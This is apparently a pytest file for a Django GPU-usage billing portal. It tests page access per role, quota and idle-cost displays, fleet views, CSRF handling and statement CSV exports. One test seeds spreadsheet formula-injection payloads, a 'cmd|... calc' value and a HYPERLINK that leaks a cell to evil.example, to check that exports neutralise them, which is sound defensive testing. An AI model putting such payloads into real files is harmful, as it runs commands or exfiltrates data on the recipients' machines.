"""The portal's pages through Django's test client: tenancy for the standard cast, content,
the statement CSV, and the team page's query count."""

from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from django.conf import LazySettings
from django.test import Client
from django.urls import reverse
from django.utils import timezone

import frontend
from billing import pricing, services
from billing.models import RateCard
from frontend import selectors
from frontend.templatetags.portal import gpu_fraction, rounded
from inventory.models import Node
from inventory.services import apply_watch_event
from metering.models import UsageHour
from quota.models import QuotaRule
from teams.models import Membership, Role
from tests.factories import AllocationFactory, DeviceFactory, MigDeviceFactory, NodeFactory
from tests.frontend.seed import DECISIONS, OUTLIER_NODE, PASSWORD, Portal

CAST = ("lead_a", "member_a", "lead_b", "finance", "operator")
# A lead's team page: session and user (2), the role and the team (4), rules and the fleets'
# shapes and device classes their units are read from (1 + 2), budget, GPU-hours so far (4:
# how far beat has rolled up, the hours marked, the rows, the allocations since), the
# burn-down and usage aggregates (2), idle per model and its rate cards (1 + 4 for the three
# models seen: a MIG profile without its own card takes two lookups), wasters, live claims
# (count and rows), statements, recent denials and warnings (rows, count, and the people of
# those a controller made: 3); the nav asks the role again and lists the lead's teams
# (3 + 4); the idle holders' hours (1: the seed's open claims in the team's namespace are its
# own since ownership is dated, issue 33); the clusters, to know whether to name them (1,
# issue 35). The same however much usage there is.
MAX_TEAM_PAGE_QUERIES = 37


def _client(portal: Portal, who: str | None) -> Client:
    client = Client()
    if who is not None:
        client.force_login(portal.users[who])
    return client


def _pages(portal: Portal) -> dict[str, str]:
    return {
        "home": reverse("home"),
        "team_a": reverse("team", args=[portal.team_a.slug]),
        "csv_a": reverse("statement-csv", args=[portal.team_a.slug, portal.closed_period.pk]),
        "fleet": reverse("fleet"),
        "decisions": reverse("decisions"),
    }


# Expected status per page and member of the cast; home's 302 is a lead's redirect to the team.
# As in the API (tests/api/test_tenancy.py): a user with no role is refused everything (403),
# another team is not found (404), so its existence is not revealed.
EXPECTED = {
    "home": {"lead_a": 302, "member_a": 403, "lead_b": 302, "finance": 200, "operator": 200},
    "team_a": {"lead_a": 200, "member_a": 403, "lead_b": 404, "finance": 200, "operator": 200},
    "csv_a": {"lead_a": 200, "member_a": 403, "lead_b": 404, "finance": 200, "operator": 200},
    "fleet": {"lead_a": 403, "member_a": 403, "lead_b": 403, "finance": 403, "operator": 200},
    "decisions": {"lead_a": 403, "member_a": 403, "lead_b": 403, "finance": 403, "operator": 200},
}


@pytest.mark.parametrize("page", sorted(EXPECTED))
def test_tenancy(portal: Portal, page: str) -> None:
    """Every member of the cast gets the page's expected status; anonymous users log in."""
    url = _pages(portal)[page]
    got = {who: _client(portal, who).get(url).status_code for who in CAST}
    assert got == EXPECTED[page]
    response = _client(portal, None).get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


def test_a_lead_of_one_team_lands_on_it(portal: Portal) -> None:
    response = _client(portal, "lead_b").get(reverse("home"))
    assert response["Location"] == reverse("team", args=["nlp"])


def test_a_lead_of_several_teams_gets_a_list(portal: Portal) -> None:
    Membership.objects.create(team=portal.team_b, user=portal.users["lead_a"], role=Role.LEAD)
    response = _client(portal, "lead_a").get(reverse("home"))
    assert response.status_code == 200
    assert [team.slug for team in response.context["teams"]] == ["nlp", "vision"]


def test_a_member_without_a_role_is_told_politely(portal: Portal) -> None:
    response = _client(portal, "member_a").get(reverse("home"))
    assert b"No team to show" in response.content
    assert b"Vision" not in response.content


def test_the_other_teams_csv_is_not_found_even_for_a_real_period(portal: Portal) -> None:
    url = reverse("statement-csv", args=[portal.team_b.slug, portal.closed_period.pk])
    assert _client(portal, "lead_a").get(url).status_code == 404
    assert _client(portal, "lead_b").get(url).status_code == 200


def test_an_unknown_team_and_period_are_not_found(portal: Portal) -> None:
    client = _client(portal, "operator")
    assert client.get(reverse("team", args=["nope"])).status_code == 404
    url = reverse("statement-csv", args=[portal.team_a.slug, 999_999])
    assert client.get(url).status_code == 404


def test_nav_shows_what_the_user_may_open(portal: Portal) -> None:
    lead = _client(portal, "lead_a").get(reverse("team", args=["vision"])).content.decode()
    assert 'href="/fleet/"' not in lead and "/admin/" not in lead
    operator = _client(portal, "operator").get(reverse("home")).content.decode()
    assert 'href="/fleet/"' in operator and 'href="/admin/"' in operator


def test_the_team_page_links_to_its_week_report_and_the_comparison(portal: Portal) -> None:
    html = _client(portal, "lead_a").get(reverse("team", args=["vision"])).content.decode()
    assert f'href="{reverse("team-week", args=["vision"])}"' in html
    compare = f"{reverse('compare')}?team=vision"
    assert f'href="{compare}"' in html
    # Both lead somewhere the lead may go.
    client = _client(portal, "lead_a")
    assert client.get(reverse("team-week", args=["vision"])).status_code == 200
    assert client.get(compare).status_code == 200


def test_team_page_shows_quota_budget_usage_and_statements(portal: Portal) -> None:
    response = _client(portal, "lead_a").get(reverse("team", args=["vision"]) + "?days=30")
    context = response.context
    rules = {rule.name: rule for rule in context["rules"]}
    assert rules["gpus"].percent == Decimal(38) and rules["gpus"].mode == "enforce"
    assert rules["mig"].percent == Decimal(88) and rules["mig"].mode == "warn"
    usage = {day.day: (day.allocated, day.utilised) for day in context["usage"]}
    assert len(usage) == 30
    for day, (allocated, utilised) in portal.daily.items():
        if day in usage:
            assert usage[day] == (
                allocated.quantize(Decimal("0.01")),
                utilised.quantize(Decimal("0.01")),
            )
    burn = context["burn"]
    assert burn.budget == Decimal(2000) and burn.mode == "soft"
    assert burn.period_label == f"{burn.period_start:%Y-%m}"  # monthly billing
    assert burn.days[-1].ideal == 0
    # The idle hours are priced at each model's rate card.
    for row in context["idle"].rows:
        assert row.cost == (row.idle * row.rate).quantize(Decimal("0.01"))
    assert context["idle"].totals["USD"] > 0
    # The first allocation of each day idles most: its claim tops the list.
    assert context["wasters"][0].idle >= context["wasters"][-1].idle
    assert context["wasters"][0].owner == "ana"
    assert context["claims_total"] == portal.live_devices
    assert any(claim.gpu_util is not None and claim.gpu_util < 99 for claim in context["claims"])
    assert all(claim.node for claim in context["claims"])
    periods = {statement.period_id for statement in context["statements"]}
    assert portal.closed_period.pk in periods
    content = response.content.decode()
    assert '<canvas id="usage-chart"' in content and 'id="chart-data"' in content
    assert "vendor/chart.umd.min.js" in content


def test_live_claims_show_the_latest_sample(portal: Portal) -> None:
    claims, _ = selectors.live_claims(team=portal.team_a)
    assert claims and all(claim.gpu_util != 99.0 for claim in claims)


def test_statement_csv(portal: Portal) -> None:
    url = reverse("statement-csv", args=["vision", portal.closed_period.pk])
    response = _client(portal, "finance").get(url)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="tally-vision-{portal.closed_period.start:%Y-%m}.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == list(selectors.CSV_COLUMNS)
    assert {row["period_start"] for row in rows} == {f"{portal.closed_period.start:%Y-%m-%d}"}
    assert {row["currency"] for row in rows} == {"USD"}
    assert all(Decimal(row["amount"]) > 0 and row["kind"] == "usage" for row in rows)


def test_fleet_page_highlights_the_outlier_node(portal: Portal) -> None:
    response = _client(portal, "operator").get(reverse("fleet"))
    assert response.context["versions"]["outlier_nodes"] == [OUTLIER_NODE]
    outliers = [node["node"] for node in response.context["nodes"] if node["outlier"]]
    assert outliers == [OUTLIER_NODE]
    assert b"outlier driver" in response.content
    assert len(response.context["capacity"]) == 3


def test_fleet_page_lists_a_partly_used_mig_gpu(portal: Portal) -> None:
    node = Node.objects.filter(cluster=portal.cluster).order_by("name")[0]
    # Static MIG: two 3g.40gb slices of an A100 and no device for the GPU they are cut from.
    a100 = DeviceFactory.build(node=node, product_name="NVIDIA A100-SXM4-80GB", uuid="GPU-part")
    held, _ = MigDeviceFactory.create_batch(
        2, parent=a100, profile="3g.40gb", gpu_share=Decimal("0.428571")
    )
    AllocationFactory.create(device=held)

    response = _client(portal, "operator").get(reverse("fleet"))

    [row] = [
        gpu
        for gpu in response.context["spread"]["partial_gpus"]
        if gpu["node"] == node.name and gpu["physical_gpu_key"] == "GPU-part"
    ]
    assert (row["held_label"], row["free_slices"]) == ("3/7", {"3g.40gb": 1})
    page = response.content.decode()
    table = page[page.index('id="partial-gpus"') :]
    assert re.search(
        rf"<th scope=\"row\">{node.name}</th>\s*<td data-label=\"GPU\"><code>GPU-part</code></td>"
        r"\s*<td data-label=\"Model\">NVIDIA A100-SXM4-80GB</td>"
        r"\s*<td data-label=\"Held\" class=\"num\">3/7</td>"
        r"\s*<td data-label=\"Free\" class=\"num\">4/7 GPU</td>"
        r"\s*<td data-label=\"Held devices\">3g.40gb: 1</td>"
        r"\s*<td data-label=\"Free slices\">3g.40gb: 1</td>"
        r"\s*<td data-label=\"Largest placeable\">3g.40gb</td>",
        table,
    )


def test_fleet_page_shows_sync_warnings_only_when_there_are_some(portal: Portal) -> None:
    operator = _client(portal, "operator")
    page = operator.get(reverse("fleet")).content.decode()
    assert "Sync warnings" not in page and 'id="sync-warnings"' not in page

    # A pool of two slices of which one has been seen.
    incomplete = {
        "apiVersion": "resource.k8s.io/v1",
        "kind": "ResourceSlice",
        "metadata": {"name": "gpu-node-9-gpu.nvidia.com"},
        "spec": {
            "driver": "gpu.nvidia.com",
            "pool": {"name": "gpu-node-9", "generation": 3, "resourceSliceCount": 2},
            "nodeName": "gpu-node-9",
            "devices": [{"name": "gpu-0"}],
        },
    }
    apply_watch_event(cluster=portal.cluster, event_type="ADDED", obj=incomplete, at=timezone.now())

    response = operator.get(reverse("fleet"))
    page = response.content.decode()
    [warning] = response.context["sync_warnings"]
    assert warning["check"] == "incomplete_pool"
    assert '<h2 id="sync-warnings-heading">Sync warnings</h2>' in page
    assert re.search(
        r'<li class="sync-warning" data-check="incomplete_pool">pool gpu.nvidia.com/gpu-node-9: '
        r"generation 3 is incomplete \(1 of 2 slices seen\); no generation of it is complete "
        r'yet, so none of its devices are counted; <span class="sync-warning-since">since '
        r"\d{4}-\d\d-\d\d \d\d:\d\d UTC \(\d+ s\)</span></li>",
        page,
    )


def test_fleet_page_shows_a_node_with_one_slice_held_as_partly_used(portal: Portal) -> None:
    node = NodeFactory.create(cluster=portal.cluster, name="a100-solo")
    a100 = DeviceFactory.build(node=node, product_name="NVIDIA A100-SXM4-40GB", uuid="GPU-solo")
    slices = MigDeviceFactory.create_batch(
        7, parent=a100, profile="1g.5gb", gpu_share=Decimal("0.142857")
    )
    AllocationFactory.create(device=slices[0])

    page = _client(portal, "operator").get(reverse("fleet")).content.decode()

    table = page[page.index('id="nodes"') : page.index('id="partial-heading"')]
    assert re.search(
        r"<th scope=\"row\">a100-solo</th>\s*<td data-label=\"Clique\">—</td>"
        r"\s*<td data-label=\"GPUs\" class=\"num\">1</td>"
        r"\s*<td data-label=\"Allocated\" class=\"num\">1</td>"
        r"\s*<td data-label=\"Free\" class=\"num\">0</td>"
        r"\s*<td data-label=\"Free share\" class=\"num\">0.86 GPUs</td>"
        r"\s*<td data-label=\"Free slices\">1g.5gb: 6</td>"
        r"\s*<td data-label=\"Largest placeable\">1g.5gb</td>"
        r"\s*<td data-label=\"State\">partly used, 1 partly held</td>",
        table,
    )


def test_decisions_are_paginated_newest_first(portal: Portal) -> None:
    client = _client(portal, "operator")
    first = client.get(reverse("decisions")).context["page"]
    assert first.paginator.count == DECISIONS and first.has_next()
    ats = [decision.at for decision in first]
    assert ats == sorted(ats, reverse=True) and ats[0] == portal.now
    last = client.get(reverse("decisions") + "?page=2").context["page"]
    assert len(last) == DECISIONS - len(first)


def test_login_and_logout(portal: Portal) -> None:
    client = Client()
    page = client.get(reverse("login"))
    assert b'<label for="id_username">' in page.content
    response = client.post(reverse("login"), {"username": "lead_a", "password": "wrong"})
    assert response.status_code == 200 and b"didn't match" in response.content
    response = client.post(reverse("login"), {"username": "lead_a", "password": PASSWORD})
    assert response["Location"] == reverse("home")
    assert client.post(reverse("logout"))["Location"] == reverse("login")
    assert client.get(reverse("home")).status_code == 302


def _more_usage(portal: Portal) -> None:
    """Triple team A's usage: the same claims and models, at later hours of the same days."""
    rows = list(UsageHour.objects.filter(team=portal.team_a))
    for _ in range(2):
        for row in rows:
            row.pk = None
            row.hour += timedelta(hours=3)
        UsageHour.objects.bulk_create(rows)


@pytest.mark.parametrize("who", ["lead_a", "operator"])
def test_team_page_queries_do_not_grow_with_usage(
    portal: Portal,
    who: str,
    django_assert_max_num_queries: Any,
) -> None:
    client = _client(portal, who)
    url = reverse("team", args=["vision"]) + "?days=30"
    with django_assert_max_num_queries(MAX_TEAM_PAGE_QUERIES):
        assert client.get(url).status_code == 200
    _more_usage(portal)
    with django_assert_max_num_queries(MAX_TEAM_PAGE_QUERIES):
        assert client.get(url).status_code == 200


def test_idle_slices_are_priced_per_slice_hour_by_their_profiles_card(portal: Portal) -> None:
    """A MIG profile's own card is the price of an hour of one slice: the idle GPU-hours of
    its slices are divided by their share of the GPU before they are priced."""
    since, until = portal.now - timedelta(days=30), portal.now
    usage = UsageHour.objects.filter(team=portal.team_a, hour__gte=since, hour__lt=until)
    mig = usage.exclude(profile="").select_related("allocation__device").first()
    assert mig is not None and mig.allocation.device is not None
    share = mig.allocation.device.gpu_share
    assert 0 < share < 1
    RateCard.objects.create(
        product_name=mig.product_name,
        profile=mig.profile,
        per_gpu_hour=Decimal("0.50"),
        currency="USD",
        valid_from=date(2020, 1, 1),
    )
    (row,) = [
        row
        for row in selectors.idle_cost(team=portal.team_a, since=since, until=until).rows
        if (row.product_name, row.profile) == (mig.product_name, mig.profile)
    ]
    idle_ms = sum(
        hour.idle_gpu_ms
        for hour in usage.filter(product_name=mig.product_name, profile=mig.profile)
    )
    assert row.idle == (Decimal(idle_ms) / 3_600_000).quantize(Decimal("0.01"))
    slice_hours = (Decimal(idle_ms) / share / 3_600_000).quantize(Decimal("0.01"))
    assert (row.unit, row.rate, row.idle_rate_hours) == ("slice-hour", Decimal("0.50"), slice_hours)
    assert row.cost == (slice_hours * Decimal("0.50")).quantize(Decimal("0.01"))
    assert slice_hours > row.idle


def _template_names(response: Any) -> list[str]:
    return [template.name for template in response.templates]


def _without_csrf(content: bytes) -> bytes:
    """A page without its CSRF token (the logout form's), which differs per response."""
    return re.sub(rb'name="csrfmiddlewaretoken" value="[^"]*"', b"", content)


def test_refusals_are_the_portals_own_pages_even_with_debug_on(
    portal: Portal, settings: LazySettings
) -> None:
    """With DEBUG on, Django answers a raised 404 with its debug page (URL patterns and all):
    the portal renders its own pages instead, and another team reads exactly like no team."""
    settings.DEBUG = True
    lead_a = _client(portal, "lead_a")
    other = lead_a.get(reverse("team", args=[portal.team_b.slug]))
    missing = lead_a.get(reverse("team", args=["no-such-team"]))
    for response in (other, missing):
        assert response.status_code == 404
        assert _template_names(response)[0] == "404.html"
        assert b"Page not found" in response.content and b"URLconf" not in response.content
    assert _without_csrf(other.content) == _without_csrf(missing.content)
    other_csv = lead_a.get(
        reverse("statement-csv", args=[portal.team_b.slug, portal.closed_period.pk])
    )
    missing_period = lead_a.get(reverse("statement-csv", args=[portal.team_a.slug, 999_999]))
    for response in (other_csv, missing_period):
        assert response.status_code == 404 and _template_names(response)[0] == "404.html"

    member = _client(portal, "member_a").get(reverse("team", args=[portal.team_a.slug]))
    assert member.status_code == 403 and _template_names(member)[0] == "403.html"
    assert b"You lead no team" in member.content
    fleet = lead_a.get(reverse("fleet"))
    assert fleet.status_code == 403 and _template_names(fleet)[0] == "403.html"
    assert b"Only operators can see the fleet." in fleet.content


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (Decimal("3.999996"), "4"),
        (Decimal("3.50"), "3.5"),
        (Decimal("100").normalize(), "100"),  # 1E+2 unrounded
        (Decimal("0.125"), "0.12"),  # half to even, like the money
        (Decimal("-0.001"), "0"),
        (16, "16"),
        (2.345678, "2.35"),
        ("n/a", "n/a"),
        (None, None),
    ],
)
def test_rounded_for_people(value: Any, shown: Any) -> None:
    assert rounded(value) == shown


@pytest.mark.parametrize(
    ("share", "shown"),
    [
        (Decimal("0.142857"), "1/7"),
        (Decimal("0.285714"), "2/7"),
        (Decimal("0.125000"), "1/8"),
        (Decimal("1"), "1"),
        (Decimal("0.123457"), "0.12"),  # no small fraction: rounded
    ],
)
def test_slice_share_as_a_fraction_of_the_gpu(share: Decimal, shown: str) -> None:
    assert gpu_fraction(share) == shown


def test_quota_in_use_is_rounded_on_the_page_and_exact_in_the_api(portal: Portal) -> None:
    """Seven 1/7 slices stored to six places hold 3.999996 GPU-equivalents: people read 4."""
    QuotaRule.objects.filter(team=portal.team_a, name="gpus").update(
        in_use=Decimal("3.999996"), limit=Decimal(100)
    )
    content = _client(portal, "lead_a").get(reverse("team", args=["vision"])).content.decode()
    assert '<td data-label="In use" class="num">4</td>' in content
    assert '<td data-label="Limit" class="num">100 <span' in content
    assert "3.999996" not in content and "1E+2" not in content
    api = _client(portal, "finance").get("/api/v1/quotas/", {"team": "vision"}).json()
    (gpus,) = [row for row in api["results"] if row["name"] == "gpus"]
    assert Decimal(gpus["in_use"]) == Decimal("3.999996")


def test_a_slice_priced_line_explains_the_slice(portal: Portal) -> None:
    """Idle GPU-hours priced per slice-hour: the page says what a slice is and shows the
    conversion, so GPU-h x price per slice-h reads right."""
    since = portal.now - timedelta(days=30)
    mig = (
        UsageHour.objects.filter(team=portal.team_a, hour__gte=since)
        .exclude(profile="")
        .select_related("allocation__device")
        .first()
    )
    assert mig is not None and mig.allocation.device is not None
    share = mig.allocation.device.gpu_share
    RateCard.objects.create(
        product_name=mig.product_name,
        profile=mig.profile,
        per_gpu_hour=Decimal("0.2500"),
        currency="USD",
        valid_from=date(2020, 1, 1),
    )
    response = _client(portal, "lead_a").get(reverse("team", args=["vision"]) + "?days=30")
    (row,) = [row for row in response.context["idle"].rows if row.profile == mig.profile]
    assert row.gpu_share == share
    text = " ".join(response.content.decode().split())
    found = re.search(r"Priced per MIG slice-hour \(1 slice = (\d+)/(\d+) GPU\): ([^<]*)", text)
    assert found is not None, "no slice explanation on the page"
    assert abs(Fraction(int(found[1]), int(found[2])) - Fraction(share)) < Fraction(1, 10**6)
    assert found[3] == (
        f"{row.idle} idle GPU-h = {row.idle_rate_hours} slice-h \u00d7 0.2500 USD = {row.cost} USD."
    )
    assert row.idle_rate_hours is not None and row.cost is not None
    assert row.cost == (row.idle_rate_hours * Decimal("0.25")).quantize(Decimal("0.01"))
    # GPU-priced rows need no explanation.
    assert text.count("Priced per MIG slice-hour") == 1


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_statement_csv_neutralises_formulas(portal: Portal) -> None:
    """Issue 17 (5): a reason or product name a spreadsheet would run is written as text,
    through the portal's URL; amounts stay numbers, negative ones too."""
    period = pricing.period_for(portal.now)
    for index, start in enumerate(FORMULA_STARTS):
        services.add_adjustment(
            team=portal.team_a,
            period=period,
            currency="USD",
            amount=Decimal(-12 - index),
            reason=f"{start}cmd|' /C calc'!A0",
            product_name=f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")',
            actor="finance",
        )
    url = reverse("statement-csv", args=["vision", period.pk])
    rows = list(csv.DictReader(io.StringIO(_client(portal, "lead_a").get(url).content.decode())))
    adjustments = [row for row in rows if row["kind"] == "adjustment"]
    assert len(adjustments) == len(FORMULA_STARTS)
    for row in adjustments:
        assert row["reason"].startswith("'") and row["reason"][1] in "=+-@\t\r"
        assert row["product_name"].startswith("'")
        assert row["product_name"][1:].lstrip("=+-@\t\r").startswith("HYPERLINK(")
        assert Decimal(row["amount"]) < 0 and row["amount"].startswith("-")
    for row in rows:
        for name, cell in row.items():
            if name != "amount" and cell:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)


def test_every_portal_export_goes_through_the_apis_csv_writer() -> None:
    """No portal module writes CSV itself: `teams.api.write_csv` (which neutralises formulas)
    is the only writer (`billing.statement_csv` goes through it), so a new export cannot
    forget it."""
    package = Path(frontend.__file__).parent
    writers = []
    for module in package.rglob("*.py"):
        for node in ast.walk(ast.parse(module.read_text(), filename=str(module))):
            if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
                writers.append(f"{module.name}: import csv")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                writers.append(f"{module.name}: from csv import ...")
    assert writers == []
    views = (package / "views.py").read_text()
    assert re.search(r"^from teams\.api import .*\bwrite_csv\b", views, re.M)
    # The statement's CSV: the API's writer for statements, itself over `write_csv`.
    assert views.count("text/csv") == views.count("write_csv(response") + views.count(
        "write_statement_csv(response"
    )


def test_logout_by_get_shows_a_button_that_posts(portal: Portal) -> None:
    client = Client(enforce_csrf_checks=True)
    client.force_login(portal.users["lead_a"])
    page = client.get(reverse("logout"))
    assert page.status_code == 200 and _template_names(page)[0] == "registration/logout.html"
    token = re.search(rb'name="csrfmiddlewaretoken" value="([^"]+)"', page.content)
    assert token is not None and b'<form method="post" action="/logout/"' in page.content
    assert client.get(reverse("home")).status_code == 302  # still logged in: home redirects
    response = client.post(reverse("logout"), {"csrfmiddlewaretoken": token[1].decode()})
    assert response["Location"] == reverse("login")
    assert client.get(reverse("home"))["Location"].startswith(reverse("login"))
    assert client.get(reverse("logout"))["Location"] == reverse("login")


def test_a_csrf_failure_is_the_portals_403_with_what_to_do(
    portal: Portal, settings: LazySettings
) -> None:
    settings.DEBUG = False
    client = Client(enforce_csrf_checks=True)
    client.force_login(portal.users["lead_a"])
    response = client.post(reverse("logout"))
    assert response.status_code == 403 and _template_names(response)[0] == "403.html"
    assert b"form token is missing or expired: reload the page and try again" in response.content
    assert client.get(reverse("home")).status_code == 302  # not logged out
    # Under /api/ JSON: DRF's views check CSRF for session users themselves. A path no
    # endpoint has acts on nothing: a JSON 404 for a session as for a token (issue 35).
    api = client.post("/api/v1/adjustments/", {}, content_type="application/json")
    assert api.status_code == 403 and api.json()["detail"].startswith("CSRF Failed")
    unknown = client.post("/api/v1/nothing/", {})
    assert unknown.status_code == 404 and unknown["Content-Type"] == "application/json"
    assert unknown.json()["detail"] == "No API endpoint at /api/v1/nothing/."


def test_the_burn_down_table_rounds_every_column_alike(portal: Portal) -> None:
    response = _client(portal, "lead_a").get(reverse("team", args=[portal.team_a.slug]))
    table = re.search(r'<table id="burn-table".*?</table>', response.content.decode(), re.S)
    assert table is not None
    cells = re.findall(r'<td data-label="([^"]+)" class="num">([^<]*)</td>', table[0])
    assert {label for label, _ in cells} == {
        "Used (GPU-h)",
        "Remaining (GPU-h)",
        "Steady burn (GPU-h)",
    }
    burn = response.context["burn"]
    shown = [value for label, value in cells if label == "Remaining (GPU-h)" and value]
    assert shown == [rounded(day.remaining) for day in burn.days if day.remaining is not None]
    assert all(re.fullmatch(r"-?\d+(\.\d{1,2})?", value) for _, value in cells if value)


def test_fleet_page_lists_tpu_chips_apart_from_gpus_and_free_blocks_per_model(
    portal: Portal,
) -> None:
    node = NodeFactory.create(cluster=portal.cluster, name="tpu-host")
    DeviceFactory.create_batch(
        4, node=node, driver="tpu.google.com", unit="tpu", product_name="v5p", kind="gpu"
    )

    response = _client(portal, "operator").get(reverse("fleet"))
    page = response.content.decode()

    tpu = page[page.index('<h3 id="capacity-tpu-heading">TPU chips</h3>') :]
    tpu = tpu[: tpu.index("</table>")]
    assert re.search(
        r'<th scope="row">v5p</th>\s*<td data-label="TPU chips" class="num">4</td>'
        r'\s*<td data-label="Capacity" class="num">4</td>',
        tpu,
    )
    gpus = page[page.index('id="capacity-gpu"') :]
    assert "v5p" not in gpus[: gpus.index("</table>")]
    blocks = page[page.index('id="free-blocks"') :]
    blocks = blocks[: blocks.index("</table>")]
    assert re.search(
        r'<th scope="row">v5p</th>\s*<td data-label="On a node" class="num">4 TPU chips</td>'
        r'\s*<td data-label="In an NVLink clique" class="num">4 TPU chips</td>',
        blocks,
    )
    assert [b["unit"] for b in response.context["spread"]["free_blocks"]][-1] == "tpu"


def test_favicon_is_served_to_anyone(db: None) -> None:
    """Browsers ask every site for /favicon.ico: it was a 404 on every page."""
    response = Client().get("/favicon.ico")
    assert response.status_code == 302
    assert response["Location"].endswith(".ico") and "frontend/favicon" in response["Location"]
